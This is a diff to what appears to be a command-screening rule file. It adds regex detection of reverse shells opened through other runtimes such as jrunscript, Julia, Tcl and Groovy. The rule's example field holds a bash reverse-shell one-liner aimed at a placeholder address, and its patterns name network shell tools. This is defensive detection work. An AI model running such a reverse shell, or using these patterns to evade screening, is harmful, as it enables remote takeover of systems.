@@ -51,6 +51,7 @@ _DEVICE_ARG = r"(?:/dev/|[$`]|(?:sd|hd|vd|xvd)[a-z]|nvme\d|mmcblk\d|md\d|dm-\d|l
 _AT_START = rf"(?:^|\|\s*)(?:(?:{'|'.join(sorted(WRAPPERS))})\s+)*"
 _SHELL_NAMES = rf"(?:\S*/)?(?:{'|'.join(sorted(SHELLS))})"
 _INTERP = r"(?:python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*)"
+_OTHER_RUNTIMES = r"(?:jrunscript|jjs|julia|tclsh[0-9.]*|wish|gimp(?:-[0-9.]+)?|groovy)"
 _NETWORK = r"(?:curl|wget|nc|ncat|netcat|socat|telnet|mail|mailx|mutt|sendmail|s-nail)"
 # Files whose loss or corruption stops the machine booting or anyone logging in: the account
 # database and sudoers, fstab, boot files, system programs and libraries (not /usr/local).
@@ -535,13 +536,19 @@ RULES: tuple[Rule, ...] = (
             # the program read as `_` here)
             r"|(?:^|\|\s*)(?:\S*/)?[gmn]?awk\s(?=.*/inet[46]?/(?:tcp|udp)/)"
             r"(?=.*(?:\bsystem\s*\(|\bgetline\b.*\bgetline\b))"
+            # other runtimes' code (JVM script engines, Julia, Tcl fed on stdin, GIMP's Python):
+            # a socket, and a command run from it
+            rf"|^(?=.*\b{_OTHER_RUNTIMES}\b)"
+            r"(?=.*(?:java\.net\.Socket|\bSockets\b|\bsocket\b|\bconnect\())"
+            r"(?=.*(?:ProcessBuilder|getRuntime\(\)\.exec|\bexec\b|\brun\(|pty\.spawn|dup2"
+            r"|popen))"
         ),
         example="bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
         near_miss="nc -zv 203.0.113.5 22",
         scope="line",
         utility=_re(
             rf"{_SHELL_NAMES}|nc|ncat|netcat|nc\.traditional|socat|telnet|openssl|{_INTERP}"
-            r"|(?:\S*/)?[gmn]?awk"
+            rf"|(?:\S*/)?[gmn]?awk|{_OTHER_RUNTIMES}"
         ),
     ),
     Rule(
